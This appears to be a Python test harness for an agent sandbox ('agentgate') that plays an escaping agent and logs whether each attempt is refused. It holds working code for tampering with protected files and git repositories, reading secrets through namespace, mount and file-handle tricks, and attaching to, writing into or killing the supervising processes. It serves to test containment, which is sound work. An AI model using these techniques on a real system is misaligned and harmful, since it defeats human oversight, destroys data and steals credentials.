"""An agent that tries to get out, attack by attack, and says of each how it ended.

usage: attack.py SCENE.json [files]

The scene names the victims (see scene in mod.rs). With `files`, only what needs nothing but the rights of the
person is tried: run without walls, each of these must get through, or it would prove nothing.
A line each on standard output: attack, TAB, `through`, `refused` or `absent`, TAB, why.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import signal
import socket
import struct
import subprocess
import sys
import time

SCENE = json.load(open(sys.argv[1]))
HERE = os.getcwd()
LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
SYS = {
    "clone": 220 if ARM else 56,
    "unshare": 97 if ARM else 272,
    "setns": 268 if ARM else 308,
    "open_by_handle_at": 265 if ARM else 304,
    "renameat2": 276 if ARM else 316,
    "pivot_root": 41 if ARM else 155,
    "process_vm_writev": 271 if ARM else 311,
    "open_tree": 428,
    "move_mount": 429,
    "io_uring_setup": 425,
    "io_uring_enter": 426,
    "mount_setattr": 442,
}
NEWUSER, NEWNS, NEWPID, NEWNET, NEWCGROUP = 0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x02000000
MS_REMOUNT, MS_BIND, MS_REC = 0x20, 0x1000, 0x4000
AT_FDCWD = -100
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
counter = 0


def call(name, *args):
    """A raw system call; raises what the kernel says."""
    args = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
    if isinstance(name, str) and name in SYS:
        result = LIBC.syscall(SYS[name], *args)
    else:
        result = getattr(LIBC, name)(*args)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), name)
    return result


def fresh(content=b"planted\n"):
    """A new file of ours in the worktree."""
    global counter
    counter += 1
    path = os.path.join(HERE, f"own-{counter}")
    with open(path, "wb") as file:
        file.write(content)
    return path


def tell(name, how, why=""):
    print(f"attack\t{name}\t{how}\t{why}", flush=True)


class Absent(Exception):
    """There is nothing here to attack."""


def attempt(name, attack, *args):
    try:
        attack(*args)
    except Absent as why:
        tell(name, "absent", why)
    except OSError as error:
        tell(name, "refused", errno.errorcode.get(error.errno, error))
    except Exception as error:  # an attack that is broken proves nothing
        tell(name, "broken", repr(error))
    else:
        tell(name, "through")


def put(path, flags=os.O_WRONLY, data=b"attacked"):
    fd = os.open(path, flags | os.O_NOCTTY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


# What is tried on a file, the destructive last.


def write(path):
    put(path)


def append(path):
    put(path, os.O_WRONLY | os.O_APPEND)


def write_mapped(path):
    with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as view:
        view[:1] = b"#"


def write_through_symlink(path):
    link = fresh()
    os.unlink(link)
    os.symlink(path, link)
    put(link)


def write_by_reopening(path):
    fd = os.open(path, os.O_PATH)
    put(f"/proc/self/fd/{fd}")


def write_by_io_uring(path):
    put_ring(path)


def write_by_another_program(path):
    """An executable in memory, so that no rule about files speaks of it."""
    fd = os.memfd_create("dd", 0)
    with open("/bin/dd", "rb") as program:
        os.write(fd, program.read())
    done = subprocess.run(
        ["dd", "if=/proc/self/cmdline", f"of={path}", "conv=notrunc"],
        executable=f"/proc/self/fd/{fd}",
        pass_fds=[fd],
        capture_output=True,
        text=True,
    )
    if done.returncode:
        raise OSError(errno.EACCES, done.stderr.strip().splitlines()[-1])


def truncate(path):
    os.truncate(path, 3)


def truncate_by_opening(path):
    os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))


def chmod(path):
    # An object of git is read-only for its owner too; so what follows has no excuse.
    os.chmod(path, (os.stat(path).st_mode | 0o200) ^ 0o044)


def fchmod(path):
    fd = os.open(path, os.O_RDONLY)
    os.fchmod(fd, os.fstat(fd).st_mode ^ 0o011)


def chown(path):
    """An ordinary user may give a file to themselves: only its change time tells."""
    os.chown(path, *((12345, 12345) if os.geteuid() == 0 else (os.geteuid(), os.getegid())))


def utime(path):
    os.utime(path, ns=(10**18, 10**18))


def setxattr(path):
    os.setxattr(path, "user.attack", b"1")


def setflags(path):
    """`chattr +d`, which changes nothing but the flag."""
    fd = os.open(path, os.O_RDONLY)
    try:
        flags = struct.unpack("l", fcntl.ioctl(fd, 0x80086601, bytes(8)))[0]
    except OSError as error:
        if error.errno in (errno.ENOTTY, errno.EOPNOTSUPP):
            raise Absent("no flags on this file system") from None
        raise
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", flags | 0x40))


def hard_link(path):
    link = fresh()
    os.unlink(link)
    os.link(path, link)


def link_into(path):
    os.link(fresh(), path + ".linked")


def exchange(path):
    call("renameat2", AT_FDCWD, fresh().encode(), AT_FDCWD, path.encode(), 2)


def rename_out(path):
    os.rename(path, fresh())


def rename_into(path):
    os.rename(fresh(), path)


def replace_by_symlink(path):
    os.symlink(fresh(), path + ".link")
    os.rename(path + ".link", path)


def unlink(path):
    os.unlink(path)


# What is tried in a folder.


def create(folder):
    put(os.path.join(folder, "created"), os.O_WRONLY | os.O_CREAT | os.O_EXCL)


def create_nameless(folder):
    try:
        fd = os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600)
    except OSError as error:
        if error.errno == errno.EOPNOTSUPP:
            raise Absent("not on this file system") from None
        raise
    call("linkat", AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, f"{folder}/nameless".encode(), 0x400)


def mkdir(folder):
    os.mkdir(os.path.join(folder, "made"))


def mkfifo(folder):
    os.mkfifo(os.path.join(folder, "fifo"))


def symlink(folder):
    os.symlink("/", os.path.join(folder, "symlink"))


def bind(folder):
    # Short, whatever the folder.
    fd = os.open(folder, os.O_PATH)
    socket.socket(socket.AF_UNIX).bind(f"/proc/self/fd/{fd}/socket")


def chmod_folder(folder):
    os.chmod(folder, os.stat(folder).st_mode ^ 0o002)


def rename_folder(folder):
    os.rename(folder, folder + ".moved")
    os.rename(folder + ".moved", folder)


FILE = [
    chmod, fchmod, chown, utime, setxattr, setflags, write, append, write_mapped, write_through_symlink,
    write_by_reopening, write_by_io_uring, write_by_another_program, truncate, truncate_by_opening,
    hard_link, link_into, exchange, rename_out, rename_into, replace_by_symlink, unlink,
]  # fmt: skip
FOLDER = [create, create_nameless, mkdir, mkfifo, symlink, bind, chmod_folder, rename_folder]


def put_ring(path):
    """openat(2) without the call: by io_uring."""
    params = bytearray(120)
    buffer = (ctypes.c_char * 120).from_buffer(params)
    try:
        ring = call("io_uring_setup", 4, buffer)
    except OSError as error:
        # Off, or not built in. Nothing to attack with.
        raise Absent(errno.errorcode[error.errno]) from None
    sq, cq = struct.unpack_from("10I", params, 40), struct.unpack_from("10I", params, 80)
    sq_map = mmap.mmap(ring, sq[6] + 4 * 4, offset=0)
    cq_map = mmap.mmap(ring, cq[5] + 16 * 8, offset=0x8000000)
    entries = mmap.mmap(ring, 64 * 4, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    # IORING_OP_OPENAT: opcode, flags, ioprio, fd, off, addr, len (mode), open flags, user data.
    struct.pack_into("BBHiQQIIQ", entries, 0, 18, 0, 0, AT_FDCWD, 0, ctypes.addressof(name), 0, os.O_WRONLY, 7)
    struct.pack_into("I", sq_map, sq[6], 0)
    struct.pack_into("I", sq_map, sq[1], 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    result = struct.unpack_from("Qi", cq_map, cq[5])[1]
    if result < 0:
        raise OSError(-result, "io_uring")
    os.write(result, b"attacked")


# git, in the clone of the person.


def git(*words):
    done = subprocess.run(["git", *words], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=20)
    if done.returncode:
        raise OSError(errno.EACCES, " ".join(done.stderr.split())[-160:])


def clone_attacks(main):
    yield "git commit", git, "-C", main, "commit", "--allow-empty", "-m", "attack"
    yield "git config", git, "-C", main, "config", "attack.ed", "yes"
    yield "git branch", git, "-C", main, "branch", "attack"
    yield "git tag", git, "-C", main, "tag", "attack"
    yield "git update-ref", git, "-C", main, "update-ref", "refs/heads/attacked", "HEAD"
    yield "git hash-object", git, "-C", main, "hash-object", "-w", sys.argv[0]
    yield "git switch", git, "-C", main, "switch", "-c", "switched"
    yield "git worktree add", git, "-C", main, "worktree", "add", os.path.join(HERE, "planted-tree")
    yield "git push", git, "-C", main, "push", main, "HEAD:refs/heads/pushed"
    yield "git config of the person", git, "config", "--file", SCENE["files"]["home's git"], "attack.ed", "yes"


# Processes.


def processes():
    """The wrapper and what belongs to it, by any way to find them."""
    found = {int(pid) for pid in SCENE["pids"]} | {os.getppid()}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            words = open(f"/proc/{entry}/cmdline", "rb").read()
        except OSError:
            continue
        if SCENE["top"].encode() in words and (b"\0run\0" in words or b"__exec" in words):
            found.add(int(entry))
    return sorted(found - {os.getpid()})


def send(pid, number):
    os.kill(pid, number)
    # The kernel drops it without a word where the first process of the namespace is meant.
    if pid == os.getppid() and os.path.isdir(f"/proc/{pid}"):
        raise OSError(errno.EPERM, "it lives on")


def ptrace(request, pid):
    call("ptrace", request, pid, None, None)
    os.waitpid(pid, 0x40000000)
    call("ptrace", 17, pid, None, None)


def write_memory(pid):
    local = ctypes.create_string_buffer(b"x")
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(local), 1)
    remote = (ctypes.c_void_p * 2)(0, 1)
    try:
        call("process_vm_writev", pid, vector, 1, remote, 1, 0)
    except OSError as error:
        # Nothing lies at address 0: it was allowed to look.
        if error.errno != errno.EFAULT:
            raise


def set_limit(pid):
    """The one it has, again."""
    limit = ctypes.create_string_buffer(16)
    call("prlimit", pid, 0, None, limit)
    call("prlimit", pid, 0, limit, None)


def open_only(path, flags):
    if not os.path.lexists(path):
        raise Absent("not here")
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))


def listed(path):
    os.listdir(path)


def reopen_descriptors(pid):
    """Their numbers may be listed; what they lead to is another thing."""
    refused = None
    for number in os.listdir(f"/proc/{pid}/fd"):
        try:
            os.close(os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
            return
        except OSError as error:
            refused = error
    raise refused or OSError(errno.ENOENT, "none")


def process_attacks():
    victim = SCENE["files"]["main"]
    for pid in processes():
        what = "parent" if pid == os.getppid() else "agentgate"
        for number in (0, signal.SIGCONT, signal.SIGTERM, signal.SIGKILL):
            if what == "agentgate" or number:
                yield f"signal {int(number)} to {what}", send, pid, number
        yield f"attach to {what}", ptrace, PTRACE_ATTACH, pid
        yield f"seize {what}", ptrace, PTRACE_SEIZE, pid
        # The first process of a namespace of our own takes only ourselves with it.
        if pid != 1:
            yield f"limits of {what}", set_limit, pid
        yield f"memory of {what}", write_memory, pid
        yield f"mem file of {what}", open_there, f"/proc/{pid}/mem", os.O_RDWR
    # The first process may be the machine's own: it is only looked at.
    for pid in sorted({*processes(), 1}):
        what = "parent" if pid == os.getppid() else "first process" if pid == 1 else "agentgate"
        yield f"root of {what}", put, f"/proc/{pid}/root{victim}"
        yield f"secret by the root of {what}", read_secret, f"/proc/{pid}/root{SCENE['secret']}"
        yield f"cwd of {what}", listed, f"/proc/{pid}/cwd/"
        yield f"descriptors of {what}", reopen_descriptors, pid
        yield f"mount namespace of {what}", enter, f"/proc/{pid}/ns/mnt", NEWNS
        yield f"user namespace of {what}", enter, f"/proc/{pid}/ns/user", NEWUSER


def open_there(path, flags):
    os.close(os.open(path, flags))


def enter(path, kind):
    fd = os.open(path, os.O_RDONLY)
    in_child(lambda: call("setns", fd, kind))


# The machine.


def read_secret(path):
    with open(path, "rb") as file:
        if b"SECRET" not in file.read():
            raise OSError(errno.ENOENT, "something else is there")


def mknod(kind, number):
    path = fresh()
    os.unlink(path)
    os.mknod(path, 0o600 | kind, number)
    os.unlink(path)


def disk():
    number = os.stat(SCENE["main"]).st_dev
    try:
        link = os.readlink(f"/sys/dev/block/{os.major(number)}:{os.minor(number)}")
    except OSError:
        raise Absent("no disk below the clone") from None
    return "/dev/" + os.path.basename(link)


def raw_disk(flags):
    open_only(disk(), flags)


def in_child(attack, clone=0):
    """The attack in a process of its own, whose namespaces it may spoil."""
    pipe, out = os.pipe()
    pid = call("clone", clone | signal.SIGCHLD, None, None, None, None) if clone else os.fork()
    if pid == 0:
        code = 255
        try:
            attack()
            code = 0
        except OSError as error:
            code = error.errno or 254
        finally:
            os.write(out, bytes([code]))
            os._exit(0)
    os.close(out)
    told = os.read(pipe, 1)
    os.close(pipe)
    os.waitpid(pid, 0)
    code = told[0] if told else 255
    if code == 255:
        raise RuntimeError("the child failed")
    if code:
        raise OSError(code, os.strerror(code))


def map_ids(user, group):
    """Without it nothing is lost but the names: the kernel goes by the rights that came with the namespace."""
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        try:
            put(f"/proc/self/{name}", data=text.encode())
        except OSError:
            pass


def in_namespaces(attack):
    """As root of a user namespace inside."""
    user, group = os.geteuid(), os.getegid()

    def inside():
        call("unshare", NEWUSER | NEWNS)
        map_ids(user, group)
        attack()

    in_child(inside)


def in_cloned_namespaces(attack):
    """The same without unshare(2)."""
    in_child(attack, NEWUSER | NEWNS)


def mount(source, target, kind, flags, data=None):
    text = [None if word is None else word.encode() for word in (source, target, kind)]
    call("mount", *text, flags, data)


def remount(target):
    mount(None, target, None, MS_REMOUNT | MS_BIND)
    put(SCENE["files"]["main"])


def mount_writable(target):
    attributes = struct.pack("4Q", 0, 1, 0, 0)
    call("mount_setattr", AT_FDCWD, target.encode(), 0x8000, attributes, 32)
    put(SCENE["files"]["main"])


def tree_made_writable():
    """A detached copy of the clone's mount, on which read-only is taken back."""
    fd = call("open_tree", AT_FDCWD, SCENE["main"].encode(), 0x8001)
    call("mount_setattr", fd, b"", 0x9000, struct.pack("4Q", 0, 1, 0, 0), 32)
    put(f"/proc/self/fd/{fd}" + SCENE["files"]["main"][len(SCENE["main"]):])


def fresh_system(kind, namespace, file):
    """A file system of the kernel's, mounted anew, so that nobody has made it read-only."""

    def attack():
        user, group = os.geteuid(), os.getegid()
        place = os.path.join(HERE, "place")
        os.makedirs(place, exist_ok=True)
        call("unshare", NEWUSER | NEWNS | namespace)
        map_ids(user, group)

        def inside():
            mount("none", place, kind, 0)
            open_there(os.path.join(place, file), os.O_WRONLY)

        in_child(inside)

    in_child(attack)


def capabilities():
    status = open("/proc/self/status").read().splitlines()
    fields = dict(line.split(":", 1) for line in status)
    if fields["NoNewPrivs"].strip() != "1":
        return
    if any(int(fields[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")):
        return
    raise OSError(errno.EPERM, "none left")


def host_name():
    """The same name again."""
    name = socket.gethostname().encode()
    call("sethostname", name, len(name))


def other_user():
    in_child(lambda: os.setuid(12345 if os.geteuid() == 0 else 0))


def bind_and_write():
    place = os.path.join(HERE, "place")
    os.makedirs(place, exist_ok=True)
    mount(SCENE["main"], place, None, MS_BIND | MS_REC)
    mount(None, place, None, MS_REMOUNT | MS_BIND)
    put(place + SCENE["files"]["main"][len(SCENE["main"]):])


def uncover(path):
    """What lies below the mount that hides it."""
    call("umount2", path.encode(), 2)


def uncover_secret():
    refused = None
    for path in SCENE["secrets"].values():
        for cover in (os.path.dirname(path), path):
            try:
                uncover(cover)
            except OSError:
                pass
        try:
            return read_secret(path)
        except OSError as error:
            refused = error
    raise refused


def bind_past_the_cover():
    """A bind without what is mounted below it shows what the cover hides."""
    home = os.path.dirname(os.path.dirname(SCENE["secret"]))
    place = os.path.join(HERE, "place")
    os.makedirs(place, exist_ok=True)
    mount(home, place, None, MS_BIND)
    read_secret(place + SCENE["secret"][len(home):])


def tree_past_the_cover():
    home = os.path.dirname(os.path.dirname(SCENE["secret"]))
    fd = call("open_tree", AT_FDCWD, home.encode(), 1)
    read_secret(f"/proc/self/fd/{fd}" + SCENE["secret"][len(home):])


def by_handle(flags):
    kind, raw = SCENE["handle"]
    raw = bytes.fromhex(raw)
    handle = struct.pack("Ii", len(raw), kind) + raw
    place = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = call("open_by_handle_at", place, handle, flags)
    os.lseek(fd, 0, 0)
    if b"SECRET" not in os.read(fd, 100):
        raise OSError(errno.ENOENT, "something else")


def parent_namespace():
    fd = os.open("/proc/self/ns/user", os.O_RDONLY)
    parent = fcntl.ioctl(fd, 0xB702)
    call("setns", parent, NEWUSER)


def pivot():
    call("pivot_root", b".", b".")


def inherited():
    """Descriptors that were left open for us, but for input and output; our own ends of a listing do not count."""
    held = [fd for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}") and int(fd) > 2]
    if not held:
        raise OSError(errno.EBADF, "none")


def terminal(path):
    put(path, os.O_RDWR)


def machine_attacks():
    yield "inherited descriptors", inherited
    for name, path in SCENE["secrets"].items():
        yield f"read {name}", read_secret, path
    yield "terminal of the person", terminal, SCENE["terminal"]
    yield "mknod char", mknod, 0o020000, os.makedev(1, 3)
    yield "mknod block", mknod, 0o060000, os.stat(SCENE["main"]).st_dev
    yield "raw disk for reading", raw_disk, os.O_RDONLY
    yield "raw disk for writing", raw_disk, os.O_RDWR
    for path in filter(os.path.lexists, SYSTEM):
        yield f"open {path}", open_only, path, os.O_WRONLY
    yield "create in /tmp", create_named, "/tmp"
    yield "create in /var/tmp", create_named, "/var/tmp"
    for name, where in (("", direct), (" in a user namespace", in_namespaces), (" in a cloned one", in_cloned_namespaces)):
        yield f"remount /{name}", where, lambda: remount("/")
        yield f"remount the clone{name}", where, lambda: remount(SCENE["main"])
        yield f"mount_setattr{name}", where, lambda: mount_writable("/")
        yield f"bind the clone{name}", where, bind_and_write
        yield f"writable copy of the clone's mount{name}", where, tree_made_writable
        yield f"unmount the cover{name}", where, uncover_secret
        yield f"bind past the cover{name}", where, bind_past_the_cover
        yield f"open_tree past the cover{name}", where, tree_past_the_cover
        yield f"secret by handle{name}", where, lambda: by_handle(os.O_RDONLY)
        yield f"parent's user namespace{name}", where, parent_namespace
    for kind, namespace, file in (
        ("proc", NEWPID, "sys/kernel/core_pattern"),
        ("proc", 0, "sys/kernel/core_pattern"),
        ("sysfs", NEWNET, "kernel/mm/transparent_hugepage/enabled"),
        ("cgroup2", NEWCGROUP, "cgroup.procs"),
        ("cgroup", NEWCGROUP, "cgroup.procs"),
    ):
        name = f"fresh {kind} in namespaces {namespace:x}"
        yield name, fresh_system, kind, namespace, file
    yield "capabilities", capabilities
    yield "host name", host_name
    yield "another user", other_user
    yield "pivot_root", in_child, pivot
    yield "chroot", in_child, lambda: os.chroot("/")


def direct(attack):
    in_child(attack)


def create_named(folder):
    put(os.path.join(folder, SCENE["mark"]), os.O_WRONLY | os.O_CREAT | os.O_EXCL)


# What would change the machine, as far as it has it. It is opened, no more.
SYSTEM = [
    "/etc/passwd",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/hostname",
    "/proc/sys/vm/drop_caches",
    "/proc/sysrq-trigger",
    "/sys/kernel/mm/transparent_hugepage/enabled",
    "/sys/fs/cgroup/cgroup.procs",
    "/sys/fs/cgroup/unified/cgroup.procs",
    "/dev/kmsg",
    "/dev/mem",
]


def wait_for(name):
    until = time.monotonic() + 40
    while not os.path.exists(name):
        if time.monotonic() > until:
            sys.exit(f"{name} never came")
        time.sleep(0.005)


def main():
    only_files = "files" in sys.argv[2:]
    held = list(machine_attacks())[:1]
    if not only_files:
        for attack in held:
            attempt(*attack)
        open("at-work", "w").close()
        wait_for("go")
        SCENE["pids"] = open("go").read().split()
    if not only_files:
        # It would put the victims below into a pack.
        attempt("git gc", git, "-C", SCENE["main"], "gc", "--quiet")
    for name, attack, *args in clone_attacks(SCENE["main"]):
        attempt(name, attack, *args)
    for name, path in SCENE["files"].items():
        for attack in FILE:
            attempt(f"{attack.__name__} {name}", attack, path)
    for name, path in SCENE["folders"].items():
        for attack in FOLDER:
            attempt(f"{attack.__name__} {name}/", attack, path)
    if only_files:
        return
    for name, attack, *args in list(machine_attacks())[1:]:
        attempt(name, attack, *args)
    for name, attack, *args in list(process_attacks()):
        attempt(name, attack, *args)
    tell("end", "refused")
    for entry in os.listdir(HERE):
        if entry.startswith("own-"):
            os.unlink(entry)
        elif entry in ("place", "planted-tree"):
            subprocess.run(["rm", "-rf", entry], check=False)
    open("done", "w").close()
    wait_for("finish")
    for entry in ("at-work", "go", "done", "finish"):
        os.unlink(entry)
    with open("payments/new.ts", "w") as file:
        file.write("export const honest = 1;\n")


main()
